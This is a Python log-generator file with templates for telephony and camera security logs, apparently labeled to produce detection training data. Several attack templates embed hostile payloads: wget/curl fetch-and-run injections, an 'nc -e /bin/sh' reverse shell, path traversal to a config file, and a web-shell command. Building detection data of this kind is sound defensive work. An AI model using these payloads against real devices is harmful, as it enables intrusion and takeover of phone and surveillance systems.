"""Messages of telephone systems, cameras and recorders."""

from generator.families.network.product_story import catalogue

catalogue("devices/product-telephone-systems", ("|{msg}", "=[{plain}] {msg}", "=[{time}] {msg}"), r"""
BF# NOTICE[{big}]: chan_sip.c:2854{few} handle_request_register: Registration from '"{many}" <sip:{many}@{lan}>' failed for '{wan}:{port}' - Wrong password
BF# NOTICE[{big}] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:{many}@{lan}>' failed for '{any}:{port}' (callid: {hex}) - Failed to authenticate
UE# NOTICE[{big}] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:{big}@{lan}>' failed for '{wan}:{port}' (callid: {hex}) - No matching endpoint found
BF# SECURITY[{big}] res_security_log.c: SecurityEvent="InvalidPassword",EventTV="{iso}",Severity="Error",Service="SIP",EventVersion="2",AccountID="{many}",SessionID="0x{hex}",LocalAddress="IPV4/UDP/{lan}/5060",RemoteAddress="IPV4/UDP/{wan}/{port}"
BF# SECURITY[{big}] res_security_log.c: SecurityEvent="ChallengeResponseFailed",Severity="Error",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{any}/{port}"
BF# NOTICE[{big}] manager.c: {wan} failed to authenticate as '{adm}'
AT+@T1078,T1496.004 3CX: Anti-fraud: extension {many} called {n} premium numbers in {land} within {few} minutes from {wan}; calls {few} blocked
AT+@T1496.004,T1078 FreePBX: Toll fraud suspicion: trunk PSTN {big} minutes to +252 and +371 between 01:00 and 04:00, peer {many} registered from {wan}
BF- 3CX: IP {wan} has been blacklisted: too many failed authentications ({many}), reason "Blocked for failed SIP registration"
BF 3CX: Admin console: login failed for {adm} from {wan}, {n} attempts, IP is blacklisted for 24 h
RE kamailio>> pike: PIKE - BLOCKing ip {wan}, node={hex}; UA <<friendly-scanner|sipvicious|VaxSIPUserAgent|pplsip>> OPTIONS
RX httpd>> {wan} "GET /admin/config.php?display=ARI&op=../../../../etc/amportal.conf%00" FreePBX 200
WS httpd>> {wan} "POST /admin/assets/js/{word}.php?cmd=asterisk -rx 'sip show peers'" FreePBX 200
CI FreePBX: /restapps/applications.php linestate=;wget http://{wan}/{word} -O /tmp/{word};sh from {wan2}
CT@T1552.001 tftpd>> {wan} fetched SEP{HEX}.cnf.xml, {n} other phone configurations within a minute
PT+ FreePBX: user {word} added to administrators by AMPUSER unknown from {wan}; custom extension with System(curl http://{wan2}/{word}|sh)
DO@T1499 freeswitch>> [CRIT] sofia: INVITE flood from {wan}, {big} per second, sessions exhausted
BF# freeswitch>> [WARNING] sofia_reg.c:1793 SIP auth failure (REGISTER) on sofia profile 'internal' for [{many}@{lan}] from ip {any}
C2@T1105 3CX: 3CXDesktopApp.exe ffmpeg.dll hash {sha} known bad loaded d3dcompiler_47.dll on {pc}
""", r"""
LO VERBOSE[{n}] res_pjsip_registrar.c: Added contact 'sip:{many}@{lan}:{port}' to AOR '{many}' with expiration of 3600 seconds
NS VERBOSE[{n}] res_pjsip/pjsip_configuration.c: Endpoint {many} is now Unreachable
NS NOTICE[{big}] chan_sip.c: Peer '{many}' is now UNREACHABLE!  Last qualify: {n}
NS NOTICE[{big}] chan_sip.c: -- Registration for '{big}@{ext}' timed out, trying again (Attempt #{few})
NS WARNING[{big}] chan_sip.c: Retransmission timeout reached on transmission {hex}@{lan} for seqno 102 (Critical Request)
NS WARNING[{big}] res_rtp_asterisk.c: RTP Read too short
ER ERROR[{big}] res_pjsip.c: Error 120111 'TLS connection closed' sending OPTIONS to endpoint trunk
ER ERROR[{big}] cdr_mysql.c: cannot connect to database server localhost
AE VERBOSE[{n}][C-{hex}] pbx.c: Executing [{many}@from-internal:1] Dial("PJSIP/{many}-{hex}", "PJSIP/{n}") in new stack
AE VERBOSE[{n}][C-{hex}] app_dial.c: Called PJSIP/0049{id}@trunk
AE cdr[{n}]>> "","{many}","0{id}","from-internal","{many}","PJSIP/{many}-{hex}","PJSIP/trunk-{hex}","Dial","{plain}",{many},"<<ANSWERED|NO ANSWER|BUSY|FAILED>>"
MP. NOTICE[{big}]: chan_sip.c:28{many}: Registration from '<sip:{many}@{lan}>' failed for '{lan2}:{port}' - Wrong password
MP. SECURITY[{big}] res_security_log.c: SecurityEvent="InvalidPassword",Severity="Error",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{any}/{port}"
LO SECURITY[{big}] res_security_log.c: SecurityEvent="SuccessfulAuth",Severity="Informational",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{lan}/{port}"
LO SECURITY[{big}] res_security_log.c: SecurityEvent="ChallengeSent",Severity="Informational",Service="PJSIP",AccountID="{many}",RemoteAddress="IPV4/UDP/{wan}/{port}"
BN. NOTICE[{big}] res_pjsip/pjsip_distributor.c: Request 'OPTIONS' from '<sip:100@1.1.1.1>' failed for '{wan}:{port}' - No matching endpoint found
BN 3CX: IP {wan} removed from blacklist by {adm}: sales office changed provider
SY 3CX: SIP trunk {ext} <<registration lost|is back online|response: 503 Service Unavailable>>
SY 3CX: Phone of extension {many} ({mac}) provisioned from {lan}
BA 3CX: Scheduled backup completed: {file}.zip uploaded to {lan}
UP 3CX: Update {ver} available; Desktop app updated on {n} clients
UP FreePBX: module <<core|framework|firewall>> upgraded to {ver}; security fixes installed
AD FreePBX: Apply Config by {adm} from {lan}: extension {many} changed
LO FreePBX: {adm} logged in to Administration from {lan}
NS tftpd>> RRQ from {lan} filename SEP{HEX}.cnf.xml
NS freeswitch>> [NOTICE] sofia_reg.c: Registered {many}@{lan} expires 600
NS freeswitch>> [WARNING] switch_core_media.c: No audio codec negotiated, hangup INCOMPATIBLE_DESTINATION
AE freeswitch>> [NOTICE] switch_ivr_originate.c: Hangup sofia/gateway/{word} [CS_CONSUME_MEDIA] [USER_BUSY]
SY cucm: %UC_CALLMANAGER-3-DeviceUnregistered: DeviceName=SEP{HEX} ReasonCode=13
AE teams SBC: call {uuid} ended, code 480, duration {many} s
""")

catalogue("devices/product-cameras", ("|{msg}", "={plain} {host} {msg}", "=<45>{time} {host} {msg}"), r"""
BF# Hikvision: [Exception] Illegal Login; Major Type: Exception; Minor Type: Illegal Login; User: {adm}; Remote Host: {wan}
BF Hikvision: [Alarm] Illegal login lock: IP {wan} locked for 30 minutes after {n} failures, user admin
CI Hikvision: PUT /SDK/webLanguage <language>$(wget http://{wan}/{word} -O /tmp/{word};sh /tmp/{word})</language> from {wan2}
AT+@T1078.001,T1190 Hikvision: GET /Security/users?auth=YWRtaW46MTEK from {wan} 200
PT+ Hikvision: [Operation] Remote: Add User {word} level Administrator, host {wan}
LC Hikvision: [Operation] Remote: Clear Log, user {adm}, host {wan}; Remote: Format HDD
BF# Dahua: {"Type":"Login","Status":"Failed","User":"{adm}","Address":"{any}","LoginType":"DVRIP"}
BF Dahua: AccountLock: user admin locked, {n} wrong passwords from {wan}
AT+@T1078.001,T1190 Dahua: DVRIP login user default by {wan} with loginType NetKeyboard
PT+ Dahua: AddUser {word} group admin by <<888888|default>> from {wan}
MW Dahua: telnetd started by /var/tmp/{word}; {big} outgoing connections to port 23, process dvrHelper
BF# Axis: ACCESS [axis] httpd: AUTH failed user=root from={wan} realm=AXIS_ACCC
RX Axis: .srv parhand: dbus call PolicyKitParhand.SetParameter root.Time.NTP.Server "$(nc {wan} {port} -e /bin/sh)" from unauthenticated {wan}
PT@T1542.001 Axis: signed firmware check failed; ACAP {word}.eap with root rights uploaded by {wan}, signature missing
BF# Reolink: user admin login failed from {any}, error password
CI TP-Link Tapo: POST / {"method":"setLanguage","params":{"payload":"';wget {wan}/{word};sh {word};'"}} from {wan2}
BF# Milestone: Mobile server: login failed for basic user {word} from {wan}
""", r"""
SY Hikvision: [Alarm] Motion Detection Started; Camera D{n}
SY Hikvision: [Exception] <<Video Signal Lost|HDD Full|HDD Error|Network Disconnected|IP Address Conflicted|Record Exception>>; Channel D{n}
MP. Hikvision: [Exception] Illegal Login; User: {adm}; Remote Host: {lan}
LO Hikvision: [Operation] Remote: Login; User: {adm}; Remote Host: {lan}
LO Hikvision: [Operation] Local: Login; User: admin
AD Hikvision: [Operation] Remote: Configure Parameters; User: {adm}; Remote Host: {lan}
AD Hikvision: [Operation] Remote: Add User {user} level Operator; User: admin; Remote Host: {lan}
UP Hikvision: [Operation] Remote: Upgrade; firmware V{ver} build {big}; result success
SY Hikvision: [Operation] Power On; abnormal shutdown before
SY Hikvision: [Information] S.M.A.R.T.; HDD {disk} reallocated sectors {n}
SY Dahua: {"Type":"StorageLowSpace","Name":"HDD{disk}","Percent":{pct}}
SY Dahua: VideoLoss channel {n} start
SY Dahua: TamperingDetection: VideoBlind channel {n} (spider web on lens, cleaned by {user})
MP. Dahua: {"Type":"Login","Status":"Failed","User":"{adm}","Address":"{any}","LoginType":"WebClient"}
LO Dahua: {"Type":"Login","Status":"OK","User":"{adm}","Address":"{lan}","LoginType":"WebClient"}
LO Dahua: Logout user {user} from {lan}, timeout
NS Dahua: P2P server {ext} connection lost, reconnecting
AE Axis: AOA: VMD profile 1 active; recording {date}_{time} stored to SD card
SY Axis: SD card wear {pct}%, replace soon
SY Axis: heater failed; temperature {pct} C outside limits
LO Axis: ACCESS [axis] httpd: user={adm} from={lan} login ok
MP. Axis: ACCESS [axis] httpd: AUTH failed user={adm} from={lan} realm=AXIS_ACCC
UP Axis: ACAP <<AXIS Object Analytics|vaptools>> {ver} installed, signature ok
MO Axis: ONVIF GetSystemDateAndTime from {lan} (video server) NotAuthorized, clock differs {n} s
AE Reolink: person detected on camera {host}, clip uploaded by FTP to {lan}
NS NVR: rtsp session {hex} of {lan} closed: timeout
SY NVR: time synchronisation with {lan} failed
AD Synology Surveillance Station: user {adm} from {lan} exported recording of camera {host} for police request, {n} min
SY Synology Surveillance Station: [{host}] Camera disconnected. / connection restored
AE Milestone: Recording server {host}: database repair finished, {n} GB
SY Milestone: storage retention: media deleted before {date}
ER Milestone: Hardware {lan} unable to login: certificate expired
""")
